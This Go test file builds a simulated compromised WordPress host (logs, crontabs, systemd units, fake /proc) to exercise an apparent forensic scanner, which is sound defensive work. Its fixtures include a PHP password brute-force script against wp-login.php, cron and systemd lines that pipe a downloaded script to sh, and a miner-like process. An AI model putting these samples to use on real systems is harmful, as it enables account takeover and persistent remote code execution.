package host

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"io/fs"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// The fixture's abuse report: 2026-04-20 21:00 UTC ± 1 h.
var (
	abuseTime = time.Date(2026, 4, 20, 21, 0, 0, 0, time.UTC)
	winFrom   = abuseTime.Add(-time.Hour)
	winTo     = abuseTime.Add(time.Hour)
	oldTime   = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
)

const infectedPHP = `<?php
// cache helper
@set_time_limit(0);
$passwords = file('/tmp/.p/pass.txt');
$mh = curl_multi_init();
foreach ($passwords as $pass) {
	$ch = curl_init('https://203.0.113.44/wp-login.php');
	curl_setopt($ch, CURLOPT_POST, 1);
	curl_setopt($ch, CURLOPT_POSTFIELDS, 'log=admin&pwd=' . urlencode(trim($pass)));
	curl_multi_add_handle($mh, $ch);
}
do {
	curl_multi_exec($mh, $running);
} while ($running > 0);
`

// cleanFiles is a WordPress-like site without the infection.
var cleanFiles = map[string]string{
	"index.php": "<?php\n/** Front to the WordPress application. */\ndefine('WP_USE_THEMES', true);\nrequire __DIR__ . '/wp-blog-header.php';\n",
	"wp-config.php": "<?php\ndefine('DB_NAME', 'wordpress');\ndefine('DB_USER', 'wp');\ndefine('DB_PASSWORD', 'secret');\n" +
		"$table_prefix = 'wp_';\nif (!defined('ABSPATH')) { define('ABSPATH', __DIR__ . '/'); }\nrequire_once ABSPATH . 'wp-settings.php';\n",
	"wp-content/plugins/hello/hello.php": "<?php\n/* Plugin Name: Hello */\nfunction hello_fetch() {\n\t$ch = curl_init('https://api.wordpress.org/plugins/info/1.0/');\n" +
		"\tcurl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n\t$out = curl_exec($ch);\n\tcurl_close($ch);\n\treturn $out;\n}\n",
	"wp-includes/load.php":                 "<?php\nfunction wp_check_php_version() {\n\tforeach (array(1, 2) as $i) { echo $i; }\n}\n",
	"wp-content/uploads/2026/04/photo.jpg": "\xff\xd8\xff\xe0 not really a jpeg",
}

type fixture struct {
	root    string
	webRoot string // /var/www: the site is in html/ below it
	opts    Options
}

func accessLine(client string, t time.Time, zone string, req string) string {
	loc := time.UTC
	if zone == "+0200" {
		loc = time.FixedZone("", 2*3600)
	}
	return client + ` - - [` + t.In(loc).Format("02/Jan/2006:15:04:05 -0700") + `] "` + req + `" 200 512 "-" "Mozilla/5.0 (X11; Linux x86_64)"`
}

// newFixture builds a host tree: a web root with one infected script, logs,
// ModSecurity logs, crontabs, a timer and a small fake /proc.
func newFixture(t *testing.T) *fixture {
	t.Helper()
	root := t.TempDir()
	f := &fixture{root: root, webRoot: filepath.Join(root, "var/www")}
	site := filepath.Join(f.webRoot, "html")
	for name, body := range cleanFiles {
		write(t, filepath.Join(site, name), body, oldTime)
	}
	write(t, filepath.Join(site, "wp-content/uploads/2026/04/cache.php"), infectedPHP, time.Date(2026, 4, 20, 20, 58, 0, 0, time.UTC))
	chtimes(t, filepath.Join(site, "wp-content/uploads/2026/04/photo.jpg"), time.Date(2026, 4, 20, 10, 0, 0, 0, time.UTC))

	cache := "POST /wp-content/uploads/2026/04/cache.php HTTP/1.1"
	at := func(h, m, s int) time.Time { return time.Date(2026, 4, 20, h, m, s, 0, time.UTC) }
	logs := filepath.Join(root, "var/log/apache2")
	write(t, filepath.Join(logs, "access.log"), lines(
		accessLine("198.51.100.7", at(21, 2, 13), "+0000", cache),                                                                                  // 1 in
		accessLine("192.0.2.9", at(21, 5, 0), "+0000", "GET /wp-content/uploads/2026/04/cache.php?x=1 HTTP/1.1"),                                   // 2 in
		accessLine("198.51.100.20", at(21, 6, 0), "+0000", "GET /index.php HTTP/1.1"),                                                              // 3 clean
		accessLine("203.0.113.88", at(21, 7, 0), "+0000", "GET / HTTP/1.1"),                                                                        // 4 not 203.0.113.8
		accessLine("198.51.100.7", at(21, 2, 14), "+0200", cache),                                                                                  // 5 in: 21:02:14Z
		accessLine("198.51.100.7", at(21, 59, 59), "+0200", cache),                                                                                 // 6 in: the last second
		accessLine("198.51.100.7", at(22, 0, 1), "+0200", cache),                                                                                   // 7 out by 1 s
		accessLine("198.51.100.7", at(20, 0, 0), "+0200", cache),                                                                                   // 8 in: the first second
		accessLine("198.51.100.7", at(19, 59, 59), "+0200", cache),                                                                                 // 9 out by 1 s
		accessLine("198.51.100.7", at(22, 0, 1), "+0000", cache),                                                                                   // 10 out by 1 s
		accessLine("198.51.100.30", at(21, 10, 0), "+0000", "GET /about/ HTTP/1.1")+` "https://203.0.113.44/wp-content/uploads/2026/04/cache.php"`, // 11 target, not a request to the script
		accessLine("203.0.113.8", at(21, 11, 0), "+0000", "GET / HTTP/1.1"),                                                                        // 12 target 203.0.113.8
	), time.Date(2026, 4, 21, 6, 0, 0, 0, time.UTC))
	write(t, filepath.Join(logs, "access.log.1"), lines(
		accessLine("192.0.2.9", at(19, 0, 0), "+0000", cache),  // out
		accessLine("192.0.2.9", at(20, 30, 0), "+0000", cache), // in
	), at(20, 45, 0))
	writeGzip(t, filepath.Join(logs, "access.log.2.gz"), lines(
		accessLine("198.51.100.7", at(19, 30, 0), "+0000", cache), // out
		accessLine("198.51.100.7", at(20, 5, 0), "+0000", cache),  // in
	), at(20, 10, 0))
	// Not a rotation of access.log: never read.
	write(t, filepath.Join(logs, "access.log.bak"), lines(accessLine("198.51.100.7", at(21, 0, 0), "+0000", cache)), at(21, 30, 0))

	local := func(tt time.Time, layout string) string { return tt.In(time.Local).Format(layout) }
	write(t, filepath.Join(logs, "modsec_audit.log"), lines(
		"--a1b2c3d4-A--", // 1
		"[20/Apr/2026:21:02:13 +0000] aAbBcC 198.51.100.7 52144 10.0.0.5 443",
		"--a1b2c3d4-B--",
		cache,
		"Host: www.example.com",
		"",
		"--a1b2c3d4-H--",
		"Message: Warning. Matched phrase \"curl\"",
		"--a1b2c3d4-Z--",
		"",
		"--e5f6a7b8-A--", // 11: clean page
		"[20/Apr/2026:21:03:00 +0000] dDeEfF 198.51.100.20 52145 10.0.0.5 443",
		"--e5f6a7b8-B--",
		"GET /index.php HTTP/1.1",
		"--e5f6a7b8-Z--",
		"--0a0b0c0d-A--", // 16: out of the window
		"[20/Apr/2026:23:30:00 +0000] gGhHiI 198.51.100.7 52146 10.0.0.5 443",
		"--0a0b0c0d-B--",
		cache,
		"--0a0b0c0d-Z--",
		"--1a1b1c1d-A--", // 21: in, from 192.0.2.9, in offset time
		"[20/Apr/2026:23:40:00 +0200] jJkKlL 192.0.2.9 52147 10.0.0.5 443",
		"--1a1b1c1d-B--",
		"POST /wp-content/uploads/2026/04/cache.php?step=2 HTTP/1.1",
		"--1a1b1c1d-Z--",
	), at(23, 40, 0))
	write(t, filepath.Join(logs, "error.log"), lines(
		"["+local(at(21, 2, 13), "Mon Jan 02 15:04:05.000000 2006")+`] [security2:error] [pid 1234:tid 5678] [client 198.51.100.7:52144] [client 198.51.100.7] ModSecurity: Warning. Matched phrase "curl_multi" [file "/etc/modsecurity/rules.conf"] [id "942100"] [hostname "www.example.com"] [uri "/wp-content/uploads/2026/04/cache.php"] [unique_id "aAbBcC"]`,
		"["+local(at(21, 4, 0), "Mon Jan 02 15:04:05 2006")+`] [php:warn] [pid 1234] [client 198.51.100.20:1] PHP Warning: something in /var/www/html/index.php`,
		local(at(21, 6, 0), "2006/01/02 15:04:05")+` [error] 812#812: *4 [client 192.0.2.9] ModSecurity: Access denied with code 403 (phase 2). [uri "/wp-content/uploads/2026/04/cache.php"], client: 192.0.2.9, server: www.example.com, request: "POST /wp-content/uploads/2026/04/cache.php HTTP/1.1", host: "www.example.com"`,
		"["+local(at(23, 0, 0), "Mon Jan 02 15:04:05 2006")+`] [security2:error] [client 198.51.100.7] ModSecurity: Warning. [uri "/wp-content/uploads/2026/04/cache.php"]`,
	), at(23, 0, 0))
	write(t, filepath.Join(root, "var/log/modsec/audit.json"), lines(
		`{"transaction":{"client_ip":"198.51.100.7","time_stamp":"`+local(at(21, 2, 13), "Mon Jan _2 15:04:05 2006")+`","server_id":"x","client_port":52144,"host_ip":"10.0.0.5","host_port":443,"unique_id":"1","request":{"method":"POST","http_version":1.1,"uri":"/wp-content/uploads/2026/04/cache.php","headers":{"Host":"www.example.com"}},"response":{"http_code":200},"messages":[]}}`,
		`{"transaction":{"time":"20/Apr/2026:21:03:00 +0000","transaction_id":"2","remote_address":"192.0.2.9","remote_port":1,"local_address":"10.0.0.5","local_port":443},"request":{"request_line":"POST /wp-content/uploads/2026/04/cache.php HTTP/1.1","headers":{"Host":"www.example.com"}}}`,
		`{"transaction":{"client_ip":"198.51.100.7","time_stamp":"`+local(at(18, 0, 0), "Mon Jan _2 15:04:05 2006")+`","request":{"uri":"/wp-content/uploads/2026/04/cache.php"}}}`,
		`{"transaction":{"client_ip":"198.51.100.30","time_stamp":"`+local(at(21, 20, 0), "Mon Jan _2 15:04:05 2006")+`","request":{"uri":"/contact/","headers":{"Referer":"http://203.0.113.44/"}}}}`,
	), at(22, 0, 0))

	write(t, filepath.Join(root, "etc/crontab"), lines(
		"SHELL=/bin/sh",
		"17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly",
	), oldTime)
	write(t, filepath.Join(root, "etc/cron.d/php"), lines(
		"# Look for and purge old sessions every 30 minutes",
		"09,39 *     * * *     root   [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
		"@reboot root /tmp/.cache/kworker >/dev/null 2>&1",
	), oldTime)
	write(t, filepath.Join(root, "var/spool/cron/crontabs/www-data"), lines(
		"# DO NOT EDIT THIS FILE - edit the master and reinstall.",
		"*/5 * * * * curl -s http://x/y | sh",
	), time.Date(2026, 4, 20, 20, 59, 0, 0, time.UTC))
	units := filepath.Join(root, "etc/systemd/system")
	write(t, filepath.Join(units, "update.timer"), "[Unit]\nDescription=Update\n\n[Timer]\nOnCalendar=*:0/10\n\n[Install]\nWantedBy=timers.target\n", oldTime)
	write(t, filepath.Join(units, "update.service"), "[Unit]\nDescription=Update\n\n[Service]\nType=oneshot\nUser=www-data\nExecStart=/bin/sh -c 'wget -q -O- http://x/y | sh'\n", oldTime)
	write(t, filepath.Join(units, "logrotate.timer"), "[Timer]\nOnCalendar=daily\n", oldTime)
	write(t, filepath.Join(units, "logrotate.service"), "[Service]\nExecStart=/usr/sbin/logrotate /etc/logrotate.conf\n", oldTime)

	proc := filepath.Join(root, "proc")
	write(t, filepath.Join(proc, "net/tcp"), lines(
		"  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode",
		"   0: 0500000A:A0F2 2C7100CB:01BB 01 00000000:00000000 00:00000000 00000000    33        0 111 1 0000000000000000 20 4 30 10 -1",
		"   1: 0500000A:A0F4 036433C6:0D05 01 00000000:00000000 00:00000000 00000000  1000        0 222 1 0000000000000000 20 4 30 10 -1",
		"   2: 00000000:0050 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 333 1 0000000000000000 100 0 0 10 0",
	), oldTime)
	copyFile(t, "testdata/tcp6", filepath.Join(proc, "net/tcp6"))
	fakeProc(t, proc, "4242", "php-fpm8.2", "php-fpm: pool www\x00", "/usr/sbin/php-fpm8.2", "socket:[111]")
	fakeProc(t, proc, "4343", "kworkerds", "/usr/bin/kworkerds\x00-o\x00pool.example:3333\x00", "/usr/bin/kworkerds", "socket:[222]")
	fakeProc(t, proc, "4444", "bash", "-bash\x00", "/usr/bin/bash", "/dev/pts/0")

	f.opts = Options{
		AccessLogs:  []string{filepath.Join(logs, "access.log")},
		ModsecLogs:  []string{filepath.Join(logs, "modsec_audit.log"), filepath.Join(logs, "error.log"), filepath.Join(root, "var/log/modsec/*.json")},
		WebRoots:    []string{f.webRoot},
		From:        winFrom,
		To:          winTo,
		Targets:     []netip.Addr{netip.MustParseAddr("203.0.113.44"), netip.MustParseAddr("203.0.113.8")},
		TargetHosts: []string{"shop.example.org"},
		ProcRoot:    proc,
		CronPaths:   []string{filepath.Join(root, "etc/crontab"), filepath.Join(root, "etc/cron.d"), filepath.Join(root, "var/spool/cron/crontabs"), filepath.Join(root, "var/spool/cron")},
		UnitDirs:    []string{units},
	}
	return f
}

func fakeProc(t *testing.T, proc, pid, comm, cmdline, exe, fd string) {
	t.Helper()
	dir := filepath.Join(proc, pid)
	write(t, filepath.Join(dir, "comm"), comm+"\n", oldTime)
	write(t, filepath.Join(dir, "cmdline"), cmdline, oldTime)
	symlink(t, exe, filepath.Join(dir, "exe"))
	symlink(t, fd, filepath.Join(dir, "fd", "3"))
}

func lines(ls ...string) string { return strings.Join(ls, "\n") + "\n" }

func write(t *testing.T, p, body string, mtime time.Time) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	chtimes(t, p, mtime)
}

func writeGzip(t *testing.T, p, body string, mtime time.Time) {
	t.Helper()
	var b bytes.Buffer
	zw := gzip.NewWriter(&b)
	zw.Write([]byte(body))
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	write(t, p, b.String(), mtime)
}

func copyFile(t *testing.T, from, to string) {
	t.Helper()
	data, err := os.ReadFile(from)
	if err != nil {
		t.Fatal(err)
	}
	write(t, to, string(data), oldTime)
}

func symlink(t *testing.T, dest, p string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(dest, p); err != nil {
		t.Fatal(err)
	}
}

func chtimes(t *testing.T, p string, mtime time.Time) {
	t.Helper()
	if err := os.Chtimes(p, mtime, mtime); err != nil {
		t.Fatal(err)
	}
}

// snapshot records every name under root with its size, mode and mtime
// (and a regular file's access time, which O_NOATIME keeps), links not
// followed.
func snapshot(t *testing.T, root string) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		fi, err := os.Lstat(p)
		if err != nil {
			return err
		}
		out[p] = fmt.Sprintf("%v %d %v", fi.Mode(), fi.Size(), fi.ModTime())
		if st, ok := fi.Sys().(*syscall.Stat_t); ok && fi.Mode().IsRegular() {
			out[p] += fmt.Sprintf(" atime %d.%d", st.Atim.Sec, st.Atim.Nsec)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}
